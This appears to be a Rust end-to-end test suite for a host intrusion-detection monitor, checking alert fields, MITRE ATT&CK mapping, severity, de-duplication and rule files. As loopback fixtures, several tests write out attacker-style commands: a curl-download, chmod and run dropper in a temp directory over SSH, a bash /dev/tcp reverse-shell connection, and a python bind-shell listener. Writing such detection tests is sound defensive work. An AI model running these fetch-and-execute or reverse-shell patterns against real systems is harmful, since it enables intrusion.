//! Live alerts, end to end: real processes doing what intruders do, on loopback only; each
//! alert must follow from its trigger, name the process behind it, carry its rule and MITRE
//! ATT&CK entry, and take its severity from where the process comes from.
use std::{
    net::TcpListener,
    process::{Command, Stdio},
    time::Duration,
};

use monitor_e2e::{
    action, assert_ok, copy_executable, has_arg, marker, monitor_bin, ssh::SshFixture, KillOnDrop,
    Monitor, Value,
};

const T: Duration = Duration::from_secs(30);

fn alert_for(m: &Monitor, rule: &str, mk: &str) -> Value {
    m.wait_for(&format!("{rule} alert"), T, |l| {
        action(l) == "alert" && l["rule"]["name"] == rule && has_arg(l, mk)
    })
}

/// Checks the fields every alert carries.
fn check_alert(a: &Value, id: &str, technique: &str) {
    assert_eq!(a["event"]["kind"], "alert", "{a}");
    assert_eq!(a["event"]["category"][0], "intrusion_detection");
    assert_eq!(
        a["event"]["type"][0], "info",
        "ECS: allowed, denied or info"
    );
    assert_eq!(a["rule"]["id"], id, "{a}");
    assert!(a["rule"]["description"].is_string());
    assert_eq!(a["threat"]["framework"], "MITRE ATT&CK");
    assert_eq!(a["threat"]["technique"]["id"], technique, "{a}");
    assert!(a["threat"]["tactic"]["id"]
        .as_str()
        .is_some_and(|t| t.starts_with("TA")));
    assert!(a["message"].is_string());
    assert!(a["monitor"]["alert"]["count"].as_u64() >= Some(1));
}

/// A loopback HTTP server serving a copy of /bin/true as `payload`.
fn payload_server() -> (KillOnDrop, u16, std::path::PathBuf) {
    let dir = std::env::temp_dir().join(marker("web"));
    std::fs::create_dir_all(&dir).unwrap();
    copy_executable("/bin/true", dir.join("payload"));
    let (server, port) = monitor_e2e::spawn_reporting(
        Command::new("python3")
            .args([
                "-u",
                "-c",
                "import http.server,socketserver,sys\n\
                 s=socketserver.TCPServer(('127.0.0.1',0),http.server.SimpleHTTPRequestHandler)\n\
                 print(s.server_address[1], flush=True); s.serve_forever()",
            ])
            .current_dir(&dir)
            .stderr(Stdio::null()),
    );
    (server, port.parse().unwrap(), dir)
}

#[test]
fn a_dropper_fetched_and_run_from_tmp_in_an_ssh_session_is_high() {
    let fx = SshFixture::get();
    let (_server, port, dir) = payload_server();
    let m = Monitor::start(&["--auth-log", fx.auth_log.to_str().unwrap()]);
    let mk = marker("dropper");
    let out = fx.ssh_key(
        &format!(
            "d=$(mktemp -d) && curl -s -o $d/payload http://127.0.0.1:{port}/payload && \
             chmod +x $d/payload && $d/payload {mk}; rm -rf $d"
        ),
        &[],
    );
    assert_ok(&out);
    let alert = alert_for(&m, "exec_from_writable_dir", &mk);
    // fetched, made executable, run: the run is also download-and-execute
    let fetched = m.wait_for("the download_and_execute alert", T, |l| {
        action(l) == "alert"
            && l["rule"]["name"] == "download_and_execute"
            && l["process"]["executable"] == alert["process"]["executable"]
    });
    m.stop();
    let _ = std::fs::remove_dir_all(&dir);
    check_alert(&fetched, "MON-2004", "T1105");
    assert_eq!(fetched["monitor"]["alert"]["severity"], "high");
    check_alert(&alert, "MON-2001", "T1204");
    assert_eq!(
        alert["threat"]["technique"]["subtechnique"]["id"],
        "T1204.002"
    );
    assert_eq!(alert["event"]["severity"], 73, "{alert}");
    assert_eq!(alert["monitor"]["alert"]["severity"], "high");
    assert!(
        alert["monitor"]["alert"]["reason"]
            .as_str()
            .is_some_and(|r| r.contains("ssh session")),
        "{alert}"
    );
    assert_eq!(alert["monitor"]["session"]["user"], fx.user.as_str());
    assert_eq!(alert["monitor"]["alert"]["trigger"], "exec");
    assert!(alert["process"]["executable"]
        .as_str()
        .is_some_and(|e| e.starts_with("/tmp/") && e.ends_with("/payload")));
}

#[test]
fn a_program_run_from_tmp_outside_a_session_is_medium_and_repeats_are_counted() {
    let dir = std::env::temp_dir().join(marker("tmp-exec"));
    std::fs::create_dir_all(&dir).unwrap();
    let payload = dir.join("payload");
    copy_executable("/bin/true", &payload);
    let m = Monitor::start(&[]);
    let mk = marker("tmp-exec");
    // run detached (its parent PID 1), away from this test's own ancestry — `cargo test` is
    // a build tool, under which a /tmp program is only low
    for _ in 0..5 {
        let status = monitor_e2e::detached(&[payload.to_str().unwrap(), &mk])
            .status()
            .unwrap();
        assert!(status.success());
    }
    let ran =
        |l: &Value| action(l) == "exec" && l["process"]["executable"] == payload.to_str().unwrap();
    m.wait_count("five runs", 5, T, |ls| ls.iter().filter(|l| ran(l)).count());
    let alert = alert_for(&m, "exec_from_writable_dir", &mk);
    let exec = m.wait_for("the exec", T, ran);
    let done = m.stop();
    let _ = std::fs::remove_dir_all(&dir);
    check_alert(&alert, "MON-2001", "T1204");
    assert_eq!(alert["process"]["pid"], exec["process"]["pid"]);
    assert_eq!(alert["process"]["executable"], payload.to_str().unwrap());
    assert!(alert["message"]
        .as_str()
        .is_some_and(|d| d.contains(payload.to_str().unwrap())));
    // this test runs outside any ssh session (its exec line would say so otherwise)
    if exec["monitor"]["session"].is_null() {
        assert_eq!(alert["monitor"]["alert"]["severity"], "medium", "{alert}");
        assert_eq!(alert["event"]["severity"], 47);
    }
    // five runs: one alert, then one line counting the other four
    let ours: Vec<&Value> = done
        .lines
        .iter()
        .filter(|l| action(l) == "alert" && has_arg(l, &mk))
        .collect();
    assert_eq!(ours.len(), 2, "{ours:#?}");
    assert_eq!(ours[1]["monitor"]["alert"]["repeats"], true);
    assert_eq!(ours[1]["monitor"]["alert"]["count"], 4);
}

#[test]
fn a_shell_connecting_out_is_a_reverse_shell_alert() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // a bash of its own path: alerts of one program are de-duplicated, and every test's
    // monitor sees the whole machine — another test's bash connecting first would hold this
    // one's alert in its window (CI saw that once)
    let dir = std::env::temp_dir().join(marker("revshell-bin"));
    std::fs::create_dir_all(&dir).unwrap();
    let bash = dir.join("bash");
    copy_executable("/usr/bin/bash", &bash);
    let m = Monitor::start(&[]);
    let mk = marker("revshell");
    let status = Command::new(&bash)
        .args(["-c", &format!("exec 3<>/dev/tcp/127.0.0.1/{port}"), &mk])
        .status()
        .unwrap();
    assert!(status.success());
    let alert = alert_for(&m, "shell_network_connection", &mk);
    m.stop();
    check_alert(&alert, "MON-3001", "T1059");
    assert_eq!(alert["destination"]["port"], port);
    assert_eq!(alert["destination"]["ip"], "127.0.0.1");
    assert_eq!(alert["process"]["name"], "bash");
    assert_eq!(alert["monitor"]["alert"]["trigger"], "connect");
    assert_eq!(alert["monitor"]["alert"]["severity"], "high");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn an_interpreter_listening_from_an_ssh_session_is_a_bind_shell_and_a_daemon_medium() {
    let fx = SshFixture::get();
    let m = Monitor::start(&["--auth-log", fx.auth_log.to_str().unwrap()]);
    let mk = marker("bindshell");
    let out = fx.ssh_key(
        &format!(
            "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\",0)); \
             s.listen()' {mk}"
        ),
        &[],
    );
    assert_ok(&out);
    let bind = alert_for(&m, "new_listener", &mk);
    // a daemon that is no interpreter (python under another name, a path of its own so that
    // no other test's listener shares its de-duplication): a new port, medium
    let dir = std::env::temp_dir().join(marker("daemon"));
    std::fs::create_dir_all(&dir).unwrap();
    let daemon_exe = dir.join("tcpd");
    copy_executable("/usr/bin/python3", &daemon_exe);
    let (d, port) = monitor_e2e::spawn_reporting(
        Command::new(&daemon_exe)
            .args([
                "-c",
                "import socket,sys; s=socket.socket(); s.bind(('127.0.0.1',0)); s.listen(); \
                 print(s.getsockname()[1], flush=True); sys.stdin.read()",
            ])
            .stdin(Stdio::piped()),
    );
    let port: u64 = port.trim().parse().unwrap();
    let daemon = m.wait_for("the daemon's listener alert", T, |l| {
        action(l) == "alert" && l["rule"]["name"] == "new_listener" && l["server"]["port"] == port
    });
    drop(d);
    let _ = std::fs::remove_dir_all(&dir);
    m.stop();
    check_alert(&bind, "MON-3002", "T1571");
    assert_eq!(bind["monitor"]["alert"]["severity"], "high", "{bind}");
    assert!(bind["message"]
        .as_str()
        .is_some_and(|d| d.contains("bind shell")));
    assert!(bind["monitor"]["alert"]["reason"]
        .as_str()
        .is_some_and(|r| r.contains("ssh session")));
    assert_eq!(daemon["monitor"]["alert"]["severity"], "medium", "{daemon}");
    assert_eq!(daemon["process"]["name"], "tcpd");
}

#[test]
fn what_existed_before_the_start_raises_nothing() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let m = Monitor::start(&[]);
    // the snapshot lists it; no alert may name it
    m.wait_for("snapshot listen", T, |l| {
        action(l) == "listen" && l["server"]["port"] == port
    });
    let done = m.stop();
    assert!(!done
        .lines
        .iter()
        .any(|l| action(l) == "alert" && l["server"]["port"] == port));
}

#[test]
fn a_rules_file_turns_a_rule_off_and_a_bad_one_stops_the_start_naming_the_line() {
    let dir = std::env::temp_dir().join(marker("rules"));
    std::fs::create_dir_all(&dir).unwrap();
    let off = dir.join("off.toml");
    std::fs::write(&off, "[[rule]]\nid = \"MON-3001\"\nenabled = false\n").unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let m = Monitor::start(&["--rules", off.to_str().unwrap()]);
    let mk = marker("revshell-off");
    let status = Command::new("bash")
        .args(["-c", &format!("exec 3<>/dev/tcp/127.0.0.1/{port}"), &mk])
        .status()
        .unwrap();
    assert!(status.success());
    m.wait_for("the connect", T, |l| {
        action(l) == "connect" && has_arg(l, &mk)
    });
    let done = m.stop();
    assert!(
        !done
            .lines
            .iter()
            .any(|l| action(l) == "alert" && has_arg(l, &mk)),
        "the rule is off"
    );

    let bad = dir.join("bad.toml");
    std::fs::write(
        &bad,
        "[[rule]]\nid = \"MON-1002\"\nthresholds = { failures = 20 }\n\n[[rule]]\nid = \"MON-3002\"\nseverty = \"low\"\n",
    )
    .unwrap();
    let out = Command::new(monitor_bin())
        .args(["watch", "--rules", bad.to_str().unwrap()])
        .output()
        .unwrap();
    let _ = std::fs::remove_dir_all(&dir);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(&format!("{}:7: ", bad.display())) && err.contains("severty"),
        "{err}"
    );
    assert_eq!(err.lines().count(), 1, "one line: {err}");
    assert!(out.stdout.is_empty(), "nothing started");
}
